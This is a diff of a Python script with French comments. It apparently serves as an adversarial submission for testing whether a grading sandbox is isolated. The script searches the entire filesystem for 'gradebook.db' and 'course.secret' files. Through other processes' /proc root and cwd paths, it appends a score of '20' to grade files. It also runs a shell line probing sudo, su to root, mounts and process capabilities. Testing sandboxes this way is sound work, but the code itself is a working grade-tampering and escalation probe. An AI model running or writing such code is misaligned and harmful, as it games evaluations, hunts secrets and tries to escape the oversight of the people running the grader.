@@ -1,4 +1,4 @@
-# Écrit dans tous les dossiers qu'il peut, remonte les disques, lit ce qui l'entoure ; ses trois premières réponses sont honnêtes.
+# Écrit dans tous les dossiers qu'il peut, remonte les disques, lit ce qui l'entoure ; ses deux premières réponses sont honnêtes.
 # base: release
 # answers: q1_1 q1_2
 # earns: test_q1_1 1, test_q1_2 3
@@ -30,11 +30,11 @@ for racine, dossiers, fichiers in os.walk("/"):
     secrets += [os.path.join(racine, f) for f in fichiers if f in ("gradebook.db", "course.secret")]
 for pid in filter(str.isdigit, os.listdir("/proc")):
     for dossier in ("root", "cwd"):
-        for suite in ("gradebook.db", f"tmp/{NOM}", f"work/main/{NOM}", f"root/{NOM}"):
+        for suite in ("gradebook.db", f"tmp/{NOM}", f"home/{NOM}", f"root/{NOM}"):
             try:
                 open(f"/proc/{pid}/{dossier}/{suite}", "a").write("20")
             except OSError:
                 pass
-print(ecrits)
-print(secrets)
+print("écrits :", ecrits)
+print("secrets :", secrets)
 print(subprocess.run("sudo -n true; su -c id root; mount; cat /proc/self/status | grep Cap", shell=True, capture_output=True, text=True).stdout)
